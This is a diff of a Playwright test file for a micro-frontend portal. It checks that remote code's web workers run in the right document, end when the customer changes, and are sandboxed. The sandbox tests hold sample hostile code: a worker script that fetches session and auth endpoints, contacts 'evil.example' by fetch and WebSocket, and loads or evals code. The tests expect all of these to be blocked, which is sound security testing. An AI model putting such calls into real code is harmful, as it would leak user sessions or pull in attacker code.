@@ -1,70 +1,100 @@
-import { readFileSync } from 'node:fs';
-import { join } from 'node:path';
-import type { RemoteManifest } from '@atrium/contract';
-import { repository } from '../../scripts/repository.ts';
+import type { Page, Worker } from '@playwright/test';
 import { expect, test } from '../fixtures.ts';
-import { type Fleet, handmadeBuild } from '../pages/fleet.ts';
 import { people } from '../pages/portal.ts';
-import { probeFiles, probeManifest } from '../pages/probe-remote.ts';
+import { echo, nextVersion, shipWorkerProbe } from '../pages/worker-probe.ts';
 
-const manifest: RemoteManifest = { ...probeManifest, capabilities: ['workers', 'wasm'] };
-
-/** What the build puts before the script of each worker. */
-const workerStart = readFileSync(join(repository, 'platform/build/runtime/worker-start.mjs'), 'utf8');
-
-/** Exports `two`, which returns 2, and `trap`, which ends with an error. */
-const wasmModule = String.fromCharCode(
-  ...[0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, 1, 5, 1, 0x60, 0, 1, 0x7f, 3, 3, 2, 0, 0],
-  ...[7, 14, 2, 3, 0x74, 0x77, 0x6f, 0, 0, 4, 0x74, 0x72, 0x61, 0x70, 0, 1],
-  ...[0x0a, 0x0a, 2, 4, 0, 0x41, 2, 0x0b, 3, 0, 0, 0x0b],
-);
-
-/** A page that starts a worker, sends it `start`, and shows what comes back. */
-const render = (folder: string) => `
-  const { useEffect, useState } = Object.values(globalThis.scope.react)[0].lib();
-  const [text, setText] = useState('Nothing yet.');
-  const [started, setStarted] = useState(0);
-  useEffect(() => {
-    const worker = new Worker(new URL('${folder}/workers/wasm/count.js', document.baseURI), globalThis.workerOptions);
-    globalThis.worker = worker;
-    worker.onmessage = ({ data }) => setText('The worker says ' + data);
-    worker.onerror = ({ message }) => setText('The worker failed: ' + message);
-    worker.postMessage('start');
-    return () => worker.terminate();
-  }, [started]);
-  const { createElement } = Object.values(globalThis.scope.react)[0].lib();
-  return createElement('div', null, createElement('p', null, text),
-    createElement('button', { onClick: () => { setText('Nothing yet.'); setStarted(started + 1); } }, 'Start again'));`;
-
-let published = 0;
-
-async function ship(fleet: Fleet, script: string): Promise<string> {
-  published += 1;
-  const version = `60.${Date.now() % 1_000_000}.${published}`;
-  const folder = `/assets/mfe-probe/${version}`;
-  const files = {
-    ...probeFiles({ init: 'globalThis.scope = scope;', render: render(folder), version }),
-    'workers/wasm/count.js': `${workerStart}\n${script}`,
-    'two.wasm': wasmModule,
-  };
-  await fleet.command('publish', handmadeBuild(manifest, version, files), '--promote');
-  return folder;
-}
-
-const answer = "onmessage = ({ data }) => postMessage('it got ' + data);";
+const workersOf = (page: Page): Worker[] =>
+  page.workers().filter((each) => each.url().includes('/mfe-probe/'));
 
 for (const type of ['classic', 'module'] as const)
-  test(`a ${type} worker runs in a document that its page gets, and ends with the customer and the session`, async ({
+  test(`a ${type} worker runs in the document that its page gets, whatever page comes before`, async ({
     page,
     portal,
     fleet,
   }) => {
-    await ship(fleet, answer);
+    await shipWorkerProbe(fleet, nextVersion(), 'worker');
     await page.addInitScript((kind) => Object.assign(globalThis, { workerOptions: { type: kind } }), type);
     await portal.signIn(people.owner, '/c/1/applications');
     await page.evaluate(() => Object.assign(window, { formerDocument: true }));
     await portal.open('Probe');
     await expect(page.getByText('The worker says it got start')).toBeVisible();
     expect(await page.evaluate(() => 'formerDocument' in window)).toBe(false);
-    expect(page.workers().filter((worker) => worker.url().includes('mfe-probe'))).toHaveLength(1);
+    await page.evaluate(() => Object.assign(window, { formerDocument: true }));
+    await portal.open('Rewards');
+    await expect(portal.heading).toHaveText('Rewards');
+    await portal.open('Probe');
+    await expect(page.getByText('The worker says it got start')).toBeVisible();
+    expect(await page.evaluate(() => 'formerDocument' in window)).toBe(true);
   });
+
+test('when another customer is chosen, the workers of a remote end', async ({ page, portal, fleet }) => {
+  await shipWorkerProbe(fleet, nextVersion(), 'worker', `${echo} setInterval(postMessage, 20, 'more');`);
+  await portal.signIn(people.owner, '/c/1/probe');
+  await expect(page.getByText('The worker says more')).toBeVisible();
+  const [former] = workersOf(page);
+  const ended = former?.waitForEvent('close');
+  await portal.chooseCustomer('Globex');
+  await ended;
+  expect(workersOf(page)).not.toContain(former);
+});
+
+/** Code of a remote tries each of these in a page. */
+const attempts = {
+  'object URL': () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
+  'data URL': () => new Worker('data:text/javascript,postMessage(1)'),
+  'another script of the portal': () => new Worker('/assets/shell/1.0.0/main.js'),
+  'another host': () => new Worker('https://evil.example/main.js'),
+  'shared worker': () => new SharedWorker('/assets/x.js'),
+  'service worker': () => navigator.serviceWorker.register('/assets/x.js'),
+};
+
+for (const path of ['/c/1/probe', '/c/1/applications'])
+  test(`a page starts no worker but those of its release set: ${path}`, async ({
+    page,
+    portal,
+    fleet,
+    quietConsole,
+  }) => {
+    quietConsole.allow(/Trusted ?Types?|TrustedScript|Content Security Policy/i);
+    await shipWorkerProbe(fleet, nextVersion(), 'worker');
+    await portal.signIn(people.owner, path);
+    if (path === '/c/1/probe') await expect(page.getByText('The worker says it got start')).toBeVisible();
+    else await expect(page.getByRole('table')).toBeVisible();
+    for (const [name, attempt] of Object.entries(attempts)) {
+      const outcome = page.evaluate(`(async () => void (await (${attempt})()))()`);
+      await expect(outcome, name).rejects.toThrow();
+    }
+  });
+
+/** What the script of a worker may try; each attempt ends with an error. */
+const attack = `
+  const failing = (start) => new Promise((done, failed) => { const tried = start(); tried.onerror = failed; tried.onopen = tried.onmessage = done; });
+  const attempts = {
+    api: () => fetch('/customer-portal/auth/me'),
+    session: () => fetch('/api/auth/session'),
+    file: () => fetch(location.href),
+    host: () => fetch('https://evil.example/'),
+    socket: () => failing(() => new WebSocket('wss://evil.example/')),
+    script: () => importScripts(location.href),
+    module: () => import(location.href),
+    text: () => eval('1'),
+    nested: () => failing(() => new Worker(location.href)),
+    object: () => failing(() => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))),
+  };
+  onmessage = async () => {
+    const allowed = [];
+    for (const [name, attempt] of Object.entries(attempts)) try { await attempt(); allowed.push(name); } catch {}
+    postMessage('allowed: ' + allowed.join());
+  };`;
+
+test('a worker reaches neither the API nor another host, loads no code and starts no worker', async ({
+  page,
+  portal,
+  fleet,
+  quietConsole,
+}) => {
+  quietConsole.allow(/Content Security Policy|Refused|violates|mfe-probe/i);
+  await shipWorkerProbe(fleet, nextVersion(), 'worker', attack);
+  await portal.signIn(people.owner, '/c/1/probe');
+  await expect(page.getByText('The worker says allowed:')).toHaveText('The worker says allowed:');
+});
